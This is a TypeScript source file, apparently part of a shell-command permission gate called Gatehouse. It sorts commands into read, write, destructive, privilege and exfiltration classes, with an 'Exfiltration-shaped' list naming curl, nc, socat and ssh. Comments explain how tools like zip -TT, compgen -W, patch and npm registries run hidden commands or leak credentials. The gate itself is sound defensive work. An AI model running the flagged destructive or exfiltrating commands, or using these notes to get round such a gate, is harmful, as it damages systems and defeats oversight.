          `set ${v} changes how later words are read or what they give programs (assignments anywhere, history, exported assignments)`,
        );
    }
    return verdict(name, R);
  },
  'judged',
);
/** shopt options that only change globbing, matching and error handling. */
const SHOPT_SAFE = new Set([
  'nullglob',
  'failglob',
  'dotglob',
  'globstar',
  'nocaseglob',
  'nocasematch',
  'globasciiranges',
  'lastpipe',
  'inherit_errexit',
  'pipefail',
  'errexit',
  'nounset',
  'xtrace',
]);
add(
  'shopt',
  (args, name) => {
    const o = scanOptions(args);
    if (o.dynamic) return verdict(name, U, 'shopt with an option computed at run time');
    if (!hasAny(o, 's', 'u')) return verdict(name, R);
    const bad = o.operands.find((w) => w.dynamic || w.expands || !SHOPT_SAFE.has(w.value));
    return bad === undefined
      ? verdict(name, R)
      : verdict(name, U, `shopt ${bad.text} changes how the shell reads or runs`);
  },
  'judged',
);
add('hash', (args, name) => verdict(name, scanOptions(args, { shortValued: 'pt' }).flags.has('p') ? U : R));
add('history', history);
add('jobs', jobs);
add('fc', (args, name) =>
  verdict(
    name,
    scanOptions(args, { shortValued: 'e' }).flags.has('l') ? R : U,
    'fc re-runs commands from history',
  ),
);
add('compgen complete', (args, name) => {
  const o = scanOptions(args, { shortValued: 'oAGWFCXPSv' });
  if (o.dynamic) return verdict(name, U, `${name} with an option computed at run time`);
  if (hasAny(o, 'C', 'F')) return verdict(name, U, `${name} -C/-F runs a command`);
  // bash splits -W's word list and expands each word again, command substitution included, when the
  // list is used: at once for compgen, at each Tab for complete. A list that may hold `$` or a
  // backquote (as written, or made at run time) runs what it holds.
  const code = (o.values.get('W') ?? []).find(
    (w) => w.dynamic || w.expands || w.value.includes('$') || w.value.includes('`'),
  );
  return code === undefined
    ? verdict(name, R)
    : verdict(
        name,
        U,
        `${name} -W expands its word list again, and ${code.text} may hold a command substitution`,
      );
});
add('alias', (args, name) =>
  args.length === 0 || args.every((a) => !a.value.includes('='))
    ? verdict(name, R)
    : verdict(name, U, 'an alias changes what later words run'),
);
add('eval', unknownCommand('eval runs a string as a command'));
add('source .', unknownCommand('runs a script file whose contents Gatehouse cannot see'));
add('enable', unknownCommand('enable loads or changes shell builtins'));
/** bind options that only list what is bound: everything else changes what a key does. */
const BIND_LISTING = /^-[pPvVsSlX]+$/;
add(
  'bind',
  (args, name) =>
    args.every((a) => !a.dynamic && !a.expands && BIND_LISTING.test(a.value))
      ? verdict(name, R)
      : verdict(
          name,
          U,
          'bind changes what keys do (a key that runs a command, types text, or switches to vi mode)',
        ),
  'judged',
);
add('coproc', unknownCommand('coproc runs a command in the background with redirected I/O'));
add('trap', trap, 'judged');
add('kill killall pkill skill', kill, 'judged');
add('less zless more zmore', lessLike, 'judged');
add('rg', ripgrep, 'judged');
add('sort', sortLike, 'judged');
add('uniq xxd', secondOperandWrites, 'judged');
add('sed gsed', sed, 'judged');
add('awk gawk mawk nawk', awk, 'judged');
add('find', find, 'judged');
add('date', dateRule, 'judged');
add('hostname', hostnameRule, 'judged');
add(
  'hostnamectl timedatectl localectl',
  subcommandRule({
    spec: { shortValued: 'HMp', longValued: ['host', 'machine', 'property', 'value', 'monitor'] },
    remote: ['H', 'host'],
    read: [
      'status',
      'show',
      'list-timezones',
      'list-locales',
      'list-keymaps',
      'hostname',
      'timesync-status',
      'show-timesync',
    ],
    privilege: [
      'set-hostname',
      'hostname',
      'set-time',
      'set-timezone',
      'set-ntp',
      'set-local-rtc',
      'set-locale',
      'set-keymap',
      'icon-name',
      'chassis',
      'deployment',
      'location',
    ],
    none: R,
  }),
);
add(
  'hwclock',
  toggles((o) => hasAny(o, 'r', 'show', 'get', 'V', 'version', 'h', 'help'), P),
  'judged',
);
add('sysctl', sysctl, 'judged');
add('journalctl', journalctl, 'judged');
add('dmesg', dmesg, 'judged');
add('systemctl', systemctl);
add('service', service, 'judged');
add('ip', ipCommand, 'judged');
add('ifconfig route arp', netConfig, 'judged');
add(
  'tc brctl nmcli iw ifup ifdown ifenslave vconfig',
  (args, name) => (args.length === 0 ? verdict(name, R) : verdict(name, P, 'changes network configuration')),
  'judged',
);

// Writes.
add(
  'touch mkdir rmdir unlink mkfifo',
  writesOperands({ shortValued: 'mtdr', longValued: ['mode', 'date', 'reference', 'time'] }),
  'judged',
);

/** A path made at run time: files a program names from its input, not from the command line. */
const NAMED_BY_INPUT: WordValue = {
  value: '',
  dynamic: true,
  expands: false,
  text: '<files its input names>',
};

/**
 * patch writes the files the diff names (read from standard input or `-i`), not the command line's,
 * unless it is given the one file to patch; ed-style diffs are run by ed. A run with no file on its
 * command line was a read (class 223).
 */
const patchRule: Rule = (args, name, ctx) => {
  const o = scanOptions(args, {
    shortValued: 'BDFgiopdrVYzL',
    longValued: [
      'prefix',
      'ifdef',
      'fuzz',
      'get',
      'input',
      'output',
      'strip',
      'directory',
      'reject-file',
      'version-control',
      'basename-prefix',
      'suffix',
      'quoting-style',
      'backup-if-mismatch',
      'reject-format',
      'read-only',
      'merge',
    ],
  });
  if (hasAny(o, 'help', 'version') && o.operands.length === 0) return verdict(name, R);
  if (hasAny(o, 'e', 'ed')) return verdict(name, [...W, ...U], 'patch -e runs the diff as an ed script');
  const dir = o.values.get('d') ?? o.values.get('directory');
  const files = [
    ...o.operands.slice(0, 1),
    ...['o', 'output', 'r', 'reject-file'].flatMap((k) => o.values.get(k) ?? []),
  ];
  const named = hasAny(o, 'dry-run') ? [] : writeTargets(files, ctx);
  if (hasAny(o, 'dry-run')) return verdict(name, o.dynamic ? U : R);
  // Without the file to patch, the diff names them (`+++ b/.bashrc`), relative to -d's directory.
  const byInput = o.operands.length === 0 ? [...U, ...writeTargets([NAMED_BY_INPUT], ctx)] : [];
  const inDir = dir === undefined ? [] : [...U, ...writeTargets(dir, ctx)];
  return withCats(name, W, named, byInput, inDir, o.dynamic ? U : []);
};

/**
 * split writes PREFIXaa, PREFIXab… (`x` in the working directory by default), and `--filter` runs a
 * shell command for each piece. With no file on its command line it reads standard input, and was a
 * read (class 223).
 */
const splitRule: Rule = (args, name, ctx) => {
  const o = scanOptions(args, {
    shortValued: 'abClnt',
    longValued: [
      'suffix-length',
      'additional-suffix',
      'bytes',
      'line-bytes',
      'lines',
      'number',
      'separator',
      'filter',
      'numeric-suffixes',
      'hex-suffixes',
    ],
  });
  if (hasAny(o, 'help', 'version') && o.operands.length === 0) return verdict(name, R);
  if (hasAny(o, 'filter')) return verdict(name, [...W, ...U], 'split --filter runs a shell command');
  const prefix = o.operands[1] ?? { value: 'x', dynamic: false, expands: false, text: 'x' };
  return withCats(name, W, writeTargets([prefix], ctx), o.dynamic ? U : []);
};
add('patch', patchRule, 'judged');
add('split', splitRule, 'judged');
add(
  'cp mv ln install',
  copyLike({
    shortValued: 'tSmogb',
    longValued: [
      'target-directory',
      'suffix',
      'mode',
      'owner',
      'group',
      'backup',
      'reflink',
      'sparse',
      'preserve',
      'no-preserve',
    ],
  }),
  'judged',
);
add('tee', tee, 'judged');
add('chmod chown chgrp chattr setfacl setcap', chmodLike, 'judged');
add('tar gtar bsdtar', tar, 'judged');
add('gzip gunzip bzip2 bunzip2 xz unxz zstd unzstd lz4 compress uncompress pigz', compress, 'judged');
add('unzip', unzip, 'judged');
add('zip 7z 7za', (args, name, ctx) => {
  // zip -TT CMD (--unzip-command CMD) tests the archive by running CMD through the shell.
  if (name === 'zip' && args.some((a) => /^-[^-]*TT/.test(a.value) || a.value.startsWith('--unzip-command')))
    return verdict(name, [...W, ...U], 'zip -TT runs a command to test the archive');
  const targets = writeTargets(args.filter((a) => !a.value.startsWith('-')).slice(0, 1), ctx);
  // A word made at run time may be `-TT`.
  return withCats(name, W, targets, name === 'zip' && args.some((a) => a.dynamic) ? U : []);
});
add('ssh-keygen', (args, name) => verdict(name, W));
add('updatedb mandb', fixed(W));
add('ldconfig', fixed(P));
add(
  'vi vim nvim view vimdiff nano pico emacs ed ex joe mcedit micro',
  unknownCommand('an editor can run commands and write any file'),
);

// Destructive.
add('rm', rm, 'judged');
add('dd', dd, 'judged');
add('truncate shred wipefs mkswap blkdiscard fstrim', truncateLike);
add(
  'mkfs mkfs.ext2 mkfs.ext3 mkfs.ext4 mkfs.xfs mkfs.btrfs mkfs.vfat mkfs.fat mkfs.ntfs mkfs.exfat mke2fs mkdosfs',
  fixed(D, 'creates a file system, erasing what was there'),
);
add('fdisk', diskTool(['l', 'list', 'x', 'list-details', 's', 'getsz'], ['u', 'units']), 'judged');
add(
  'sfdisk',
  diskTool(
    ['l', 'list', 'F', 'list-free', 's', 'show-size', 'J', 'json', 'g', 'show-geometry', 'V', 'verify'],
    ['q', 'quiet'],
  ),
  'judged',
);
add('gdisk', diskTool(['l']), 'judged');
add('sgdisk', diskTool(['p', 'print', 'v', 'verify', 'O', 'print-mbr', 'i', 'info']), 'judged');
add('parted', diskTool(['l', 'list'], ['m', 'machine', 'j', 'json'], false), 'judged');
add('cfdisk', diskTool([]), 'judged');
add('lvremove vgremove pvremove lvreduce', fixed(D));
add('shutdown reboot halt poweroff init telinit', fixed(D, 'stops or restarts the host'));
add(
  'iptables ip6tables iptables-legacy ip6tables-legacy iptables-nft ip6tables-nft ebtables arptables',
  firewall(['L', 'list', 'S', 'list-rules', 'C', 'check', 'h', 'help', 'V', 'version']),
  'judged',
);
add(
  'iptables-save ip6tables-save',
  (args, name, ctx) => {
    const o = scanOptions(args, { shortValued: 'tMf', longValued: ['table', 'modprobe', 'file'] });
    // -f FILE writes the rules there; -M names the modprobe program it runs.
    return fromTable(
      o,
      name,
      name,
      {
        reads: 'c t h V counters table help version',
        writes: 'f file',
        does: {
          M: [U, `${name} -M runs the program it names to load modules`],
          modprobe: [U, `${name} -M runs the program it names to load modules`],
        },
      },
      ctx,
    );
  },
  'judged',
);
add('iptables-restore ip6tables-restore', fixed(D, 'replaces the packet filter rules'));
add('nft', nft);
add(
  'ufw',
  subcommandRule({
    read: ['status', 'show', 'version', 'app'],
    destructive: [
      'enable',
      'disable',
      'reset',
      'allow',
      'deny',
      'reject',
      'limit',
      'delete',
      'insert',
      'route',
      'default',
      'reload',
      'logging',
      'prepend',
    ],
    none: R,
  }),
);
add(
  'firewall-cmd',
  (args, name) => {
    const o = scanOptions(args);
    const changes = [...o.flags].some(
      (f) =>
        /^(add|remove|set|change|new|delete|reload|complete-reload|runtime-to-permanent|panic-on|lockdown-on|direct|permanent|policy|zone=.*)/.test(
          f,
        ) && !/^(list|get|query|info|state|zone$)/.test(f),
    );
    return verdict(name, changes || o.dynamic ? D : R);
  },
  'judged',
);
add('crontab', crontab);
add('apt apt-get aptitude', apt);
add('yum dnf microdnf tdnf zypper', yum);
add('apk', apk);
add('pip pip3 pipx', (args, name, ctx) => {
  const v = pip(args, name, ctx);
  const sent = registryServers(
    args,
    name,
    {
      shortValued: 'ifc',
      longValued: [
        'index-url',
        'extra-index-url',
        'find-links',
        'proxy',
        'client-cert',
        'cert',
        'trusted-host',
      ],
    },
    ['i', 'index-url', 'extra-index-url', 'f', 'find-links', 'proxy'],
  );
  return v === null ? v : withSent(v, sent);
});
const npmTable = subcommandRule({
  twoWord: ['audit', 'config', 'version'],
  read: [
    'ls',
    'list',
    'view',
    'info',
    'show',
    'outdated',
    'audit',
    'audit signatures',
    'search',
    'why',
    'explain',
    'config',
    'config get',
    'config list',
    'config ls',
    'help',
    'version',
    'root',
    'bin',
    'prefix',
    'doctor',
    'whoami',
  ],
  destructive: ['uninstall', 'remove', 'rm', 'un', 'unlink', 'prune', 'unpublish', 'deprecate'],
  write: [
    'install',
    'i',
    'ci',
    'add',
    'update',
    'upgrade',
    'link',
    'dedupe',
    'pack',
    'cache',
    'init',
    'audit fix',
  ],
  // ~/.npmrc and ~/.yarnrc name programs later commands run (script-shell, node-options).
  privilege: ['config set', 'config delete', 'config edit', 'config fix'],
  exfiltration: ['publish', 'login', 'adduser'],
  // Options that name a program to run, or a configuration file that does (script-shell…); pnpm
  // audit --fix rewrites package.json.
  unknownOptions: [
    'script-shell',
    'userconfig',
    'globalconfig',
    'node-options',
    'shell',
    'editor',
    'browser',
    'viewer',
    'fix',
  ],
  none: R,
});
/**
 * The registry, proxy or package a package manager's words name: npm, pnpm and yarn send the
 * registry's token from ~/.npmrc (an unscoped `_authToken` to any registry), pip its index's
 * credentials from pip.conf, the keyring or ~/.netrc, and a client certificate (class 220).
 */
function registryServers(
  args: readonly WordValue[],
  name: string,
  spec: OptionSpec,
  options: readonly string[],
): { categories: ShellCategory[]; notes: string[] } {
  const o = scanOptions(args, spec);
  const named = options.flatMap((k) => o.values.get(k) ?? []);
  // npm's per-scope registry, `--@scope:registry=URL`.
  for (const [k, v] of o.values) if (/:registry$/i.test(k)) named.push(...v);
  for (const k of o.long) if (/:registry$/i.test(k) && !o.values.has(k)) named.push(RUNTIME_SERVER);
  // A package given as a URL, `git+ssh://…` or `git@host:path`.
  const urls = o.operands.filter((w) => /^[A-Za-z][A-Za-z0-9+.-]*:\/\/|^[^@/:\s]+@[^:/\s]+:/.test(w.value));
  const sent = namedServers([...named, ...urls], name, true);
  return sent;
}
/** A server named by an option given no value Gatehouse can read. */
const RUNTIME_SERVER: WordValue = { value: '', dynamic: true, expands: false, text: '' };
add('npm pnpm yarn', (args, name, ctx) => {
  const v = npmTable(args, name, ctx);
  const sent = registryServers(args, name, { longValued: ['registry', 'proxy', 'https-proxy'] }, [
    'registry',
    'proxy',
    'https-proxy',
  ]);
  return v === null ? v : withSent(v, sent);
});
add(
  'snap flatpak',
  subcommandRule({
    read: ['list', 'info', 'find', 'search', 'version', 'changes', 'services', 'connections'],
    destructive: ['remove', 'uninstall', 'disable'],
    write: ['install', 'refresh', 'update', 'enable', 'revert'],
    none: R,
  }),
);
add('dpkg', dpkg);
add('rpm', rpm);
add('pacman', (args, name) => {
  const o = scanOptions(args, {
    longValued: ['config', 'hookdir', 'dbpath', 'root', 'logfile', 'gpgdir', 'cachedir'],
  });
  if (hasAny(o, 'R', 'remove')) return verdict(`${name} -R`, D);
  if (hasAny(o, 'config', 'hookdir'))
    return verdict(name, U, 'pacman reads another configuration or hook directory');
  if (
    (hasAny(o, 'Q', 'query', 'F', 'files', 'V', 'version', 'h', 'help') && !hasAny(o, 'y', 'refresh')) ||
    (hasAny(o, 's', 'search') && !hasAny(o, 'S', 'sync', 'y', 'u'))
  )
    return verdict(name, R);
  return verdict(name, W);
});
add('userdel deluser groupdel delgroup', fixed([...D, ...P]));
add('docker podman nerdctl', containerExec);
add(
  'crictl ctr',
  subcommandRule({
    read: [
      'ps',
      'pods',
      'images',
      'logs',
      'inspect',
      'inspectp',
      'inspecti',
      'stats',
      'info',
      'version',
      'ls',
      'list',
    ],
    destructive: ['rm', 'rmp', 'rmi', 'stop', 'stopp', 'kill'],
    write: ['start', 'pull', 'run', 'create', 'update'],
    none: R,
  }),
);
add('kubectl oc', kubectl);
const helmTable = subcommandRule({
  read: [
    'list',
    'ls',
    'status',
    'get',
    'history',
    'show',
    'template',
    'search',
    'version',
    'env',
    'lint',
    'verify',
  ],
  destructive: ['uninstall', 'delete', 'del', 'un', 'rollback'],
  write: ['install', 'upgrade', 'repo', 'dependency', 'pull', 'package', 'plugin'],
  // A post-renderer is a program helm runs; a kubeconfig's users may run exec plugins.
  unknownOptions: ['post-renderer', 'kubeconfig'],
  none: R,
});
add('helm', (args, name, ctx) => {
  const v = helmTable(args, name, ctx);
  // `helm template --output-dir DIR` writes the rendered files there.
  const o = scanOptions(args, {
    longValued: ['output-dir', 'kube-apiserver', 'kube-ca-file', 'kube-tls-server-name'],
  });
  const out = o.values.get('output-dir');
  const sent = clusterCredentials(
    o,
    name,
    ['kube-apiserver'],
    ['kube-insecure-skip-tls-verify', 'kube-ca-file', 'kube-tls-server-name'],
  );
  // A chart or repository named by URL (`oci://…`, `https://…`), `--repo URL`, `search hub
  // --endpoint URL`: helm reaches it with the host's registry and repository credentials (class 220).
  const servers = registryServers(
    args,
    name,
    {
      longValued: [
        'repo',
        'endpoint',
        'output-dir',
        'kube-apiserver',
        'kube-ca-file',
        'kube-tls-server-name',
        'namespace',
        'kube-context',
        'version',
        'values',
        'set',
        'set-string',
        'set-file',
        'set-json',
        'username',
        'password',
        'ca-file',
        'cert-file',
        'key-file',
        'output',
        'destination',
        'untardir',
      ],
      shortValued: 'nfo',
    },
    ['repo', 'endpoint'],
  );
  if (v === null) return v;
  if (out === undefined && sent.categories.length === 0) return withSent(v, servers);
  const r = rekind(v.kind, v, out === undefined ? [] : [...W, ...writeTargets(out, ctx)], sent.categories);
  return withSent(
    sent.notes.length === 0 ? r : { ...r, notes: [...(r.notes ?? []), ...sent.notes] },
    servers,
  );
});
add('git', git, 'judged');

// Privilege.
add('sudo', sudo);
add('doas', wrapper({ shortFlags: 'Lns', shortValued: 'aCu' }, P, { alone: [...P, ...U] }));
add(
  'pkexec',
  wrapper({ longFlags: ['disable-internal-agent', 'keep-cwd', 'help', 'version'], longValued: ['user'] }, P, {
    alone: [...P, ...U],
  }),
);
add('su', su);
add('runuser', runuser);
add('sg newgrp', (args, name, ctx) => {
  const o = scanOptions(args, { stopAtOperand: true });
  const rest = o.operands.slice(1);
  if (rest.length === 0) return verdict(name, [...P, ...U], 'a shell in another group');
  const line = rest[rest.length - 1]!;
  ctx.nestedLine(line, name, P);
  return null;
});
add(
  'chroot',
  wrapper({ longFlags: ['skip-chdir', 'help', 'version'], longValued: ['userspec', 'groups'] }, P, {
    skipOperands: 1,
    alone: [...P, ...U],
  }),
);
// -m, -u, -n… take a file only as `-mFILE` or `--mount=FILE`; -w (--wd) is where the command starts.
add(
  'nsenter',
  wrapper(
    {
      shortFlags: 'aFZhVeck',
      shortOptional: 'muinpCUTrw',
      shortValued: 'tSGW',
      longFlags: [
        'all',
        'no-fork',
        'follow-context',
        'preserve-credentials',
        'help',
        'version',
        'env',
        'join-cgroup',
        'user-parent',
        'keep-caps',
        'mount',
        'uts',
        'ipc',
        'net',
        'pid',
        'cgroup',
        'user',
        'time',
        'root',
        'wd',
      ],
      longValued: ['target', 'setuid', 'setgid', 'wdns'],
      chdir: ['w', 'wd', 'W', 'wdns'],
    },
    P,
    { alone: [...P, ...U] },
  ),
);
add(
  'unshare',
  wrapper(
    {
      shortFlags: 'frchV',
      shortOptional: 'muinpUCT',
      shortValued: 'RwSGl',
      longFlags: [
        'fork',
        'map-root-user',
        'map-current-user',
        'map-auto',
        'keep-caps',
        'help',
        'version',
        'mount',
        'uts',
        'ipc',
        'net',
        'pid',
        'user',
        'cgroup',
        'time',
        'kill-child',
        'mount-proc',
      ],
      longValued: [
        'map-user',
        'map-group',
        'map-users',
        'map-groups',
        'propagation',
        'setgroups',
        'root',
        'wd',
        'setuid',
        'setgid',
        'monotonic',
        'boottime',
        'load-interp',
      ],
      chdir: ['w', 'wd'],
    },
    P,
    { alone: [...P, ...U] },
  ),
);
add(
  'useradd adduser usermod groupadd addgroup groupmod gpasswd passwd chpasswd chage chsh chfn visudo vipw vigr newusers pwconv grpconv',
  fixed(P),
);
add('mount umount swapon swapoff', mountRule, 'judged');
add('modprobe insmod rmmod depmod kexec setenforce setsebool semanage aa-disable auditctl', fixed(P));
add('ssh-copy-id', fixed([...P, ...X], "adds a key to another host's authorized_keys"));

// Exfiltration-shaped.
add('curl wget', httpClient, 'judged');
add('nc ncat netcat socat telnet', rawNetwork, 'judged');
add('scp sftp rsync', fileTransfer);
add('ssh', sshClient);
add('ftp tftp lftp smbclient sendmail mail mailx mutt', fixed(X));

// Wrappers.
add('env', envRule);
add('time', wrapper(TIME));
/**
 * nohup appends its command's output to `./nohup.out` when that output is a terminal (a typed line, an
 * exec with one), or to `~/nohup.out` when the working directory is not writable: a write of both,
 * since the text cannot say where its output goes (class 222).
 */
const NOHUP_OUTPUTS: readonly WordValue[] = ['nohup.out', '~/nohup.out'].map((value) => ({
  value,
  dynamic: false,
  expands: false,
  text: value,
}));
add('nohup', (args, name, ctx) => {
  const { o, own } = scanWrapper(args, { longFlags: ['help', 'version'] }, name, ctx);
  if (o.operands.length > 0 && !hasAny(o, 'help', 'version'))
    addOwn(
      own,
      '',
      [...W, ...writeTargets(NOHUP_OUTPUTS, ctx)],
      'nohup appends the output to ./nohup.out (or ~/nohup.out) when it is a terminal',
    );
  return runWrapped(o.operands, own, ctx, { alone: verdict(name, R) });
});
add('setsid', wrapper({ shortFlags: 'cfwhV', longFlags: ['ctty', 'fork', 'wait', 'help', 'version'] }));
// unbuffer (expect) runs the command on a terminal; with -p its input is typed there (PTY_KEYS).
add('unbuffer', (args, name, ctx) => {
  const { o, own } = scanWrapper(args, { shortFlags: 'p' }, name, ctx);
  if (o.operands.length > 0) addOwn(own, '', U, PTY_KEYS(name));
  return runWrapped(o.operands, own, ctx, { alone: verdict(name, R) });
});
// `nice -5 cmd` is `nice -n 5 cmd`.
add(
  'nice',
  wrapper({
    shortFlags: '0123456789',
    shortValued: 'n',
    longFlags: ['help', 'version'],
    longValued: ['adjustment'],
  }),
);
add('ionice', ionice);
add(
  'stdbuf',
  wrapper({ shortValued: 'ioe', longFlags: ['help', 'version'], longValued: ['input', 'output', 'error'] }),
);
add('chrt', chrt);
add('taskset', taskset);
add('timeout', timeoutRule);
add('xargs', xargs);
add('watch', watch);
add('flock', flock);
add('command builtin', commandBuiltin, 'judged');
add('exec', execBuiltin);
add('busybox toybox', busybox);
add('strace', strace);
add('ltrace', wrapper(LTRACE));
add('script', script);
add('parallel at batch', unknownCommand('runs commands read from its input'));

// Shells and interpreters.
add('sh bash dash ash ksh mksh rbash zsh lksh posh yash csh tcsh fish nu pwsh xonsh elvish', shell, 'judged');
add(
  'python python2 python3 perl perl5 ruby irb node nodejs deno bun php lua luajit Rscript R tclsh wish expect osascript java jshell groovy scala ' +
    'make gmake cmake ninja meson npx pnpx bunx gdb lldb psql mysql mariadb mongo mongosh redis-cli sqlite3 clickhouse-client cqlsh ' +
    'aws gcloud gsutil az terraform ansible ansible-playbook salt puppet chef-client vault consul nomad',
  interpreter,
);

/** The rule for a command name, or undefined when Gatehouse does not know it. */
export function ruleFor(name: string): Rule | undefined {
  const entry =
    RULES.get(name) ??
    // Versioned interpreters (python3.12, perl5.36) are interpreters.
    (/^(python|perl|ruby|php|lua|node)[0-9.]+$/.test(name)
      ? RULES.get('python')
      : /^mkfs\./.test(name)
        ? RULES.get('mkfs')
        : undefined);
  return entry === undefined ? undefined : judged(entry);
}

/** Directories whose programs are the system's (a name resolved there is the command it names). */
export const STANDARD_BIN_DIRS: ReadonlySet<string> = new Set([
  '/bin',
  '/sbin',
  '/usr/bin',
  '/usr/sbin',
  '/usr/local/bin',
  '/usr/local/sbin',
]);
